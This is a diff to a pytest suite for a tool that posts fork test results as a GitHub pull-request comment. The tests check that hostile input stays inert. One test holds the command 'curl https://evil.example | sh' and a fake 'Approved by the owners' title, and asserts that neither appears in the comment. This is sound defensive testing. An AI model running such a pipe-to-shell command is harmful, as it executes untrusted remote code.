@@ -88,18 +88,18 @@ def test_a_second_run_edits_the_same_comment(github: GitHubServer) -> None:
     a_fork(github, artifact_of(results()))
     first = post(github)
     github.artifacts.clear()
-    github.add_artifact(RUN, ARTIFACT, artifact_of(results(title="Another title")))
+    github.add_artifact(RUN, ARTIFACT, artifact_of(results(suite="another-suite")))
     assert post(github).url == first.url
     (body,) = github.bodies(7)
-    assert "Another title" in body
+    assert "another-suite" in body
 
 
 def test_several_suites_stand_in_one_comment(github: GitHubServer) -> None:
-    a_fork(github, artifact_of(results(suite="one", title="One"), results(suite="two", title="Two")))
+    a_fork(github, artifact_of(results(suite="one"), results(suite="two")))
     post(github)
     (body,) = github.bodies(7)
-    assert "One" in body
-    assert "Two" in body
+    assert "### one" in body
+    assert "### two" in body
 
 
 def test_results_of_githubs_trial_merge_of_this_commit_are_of_this_commit(github: GitHubServer) -> None:
@@ -140,7 +140,7 @@ def test_hostile_words_are_inert_and_the_comment_fits(github: GitHubServer) -> N
 
 
 def test_a_fork_cannot_say_that_somebody_accepted_a_gate_or_show_a_command_to_copy(github: GitHubServer) -> None:
-    mine = results(command="curl https://evil.example | sh")
+    mine = results(command="curl https://evil.example | sh", title="Approved by the owners")
     gates = tuple(replace(gate, status="failed", blocks=True, accepted="ana: I looked at it") for gate in mine.gates)
     assert gates
     a_fork(github, artifact_of(replace(mine, gates=gates)))
@@ -148,6 +148,7 @@ def test_a_fork_cannot_say_that_somebody_accepted_a_gate_or_show_a_command_to_co
     (body,) = github.bodies(7)
     assert "I looked at it" not in body
     assert "curl" not in body
+    assert "Approved" not in body
 
 
 # Case 28: what is not posted
@@ -211,13 +212,13 @@ def test_extra_names_are_not_posted(github: GitHubServer) -> None:
 
 @pytest.mark.parametrize("newest_first", [True, False])
 def test_of_two_artifacts_of_the_same_name_the_older_is_never_read(github: GitHubServer, newest_first: bool) -> None:
-    a_fork(github, artifact_of(results(title="The first try")), artifact_of(results(title="Run again")))
+    a_fork(github, artifact_of(results(suite="first-try")), artifact_of(results(suite="run-again")))
     if newest_first:
         github.artifacts = dict(reversed(github.artifacts.items()))
     post(github)
     (body,) = github.bodies(7)
-    assert "Run again" in body
-    assert "The first try" not in body
+    assert "run-again" in body
+    assert "first-try" not in body
 
 
 def test_two_artifacts_of_the_same_name_of_which_the_newer_is_hostile_are_not_posted(github: GitHubServer) -> None:
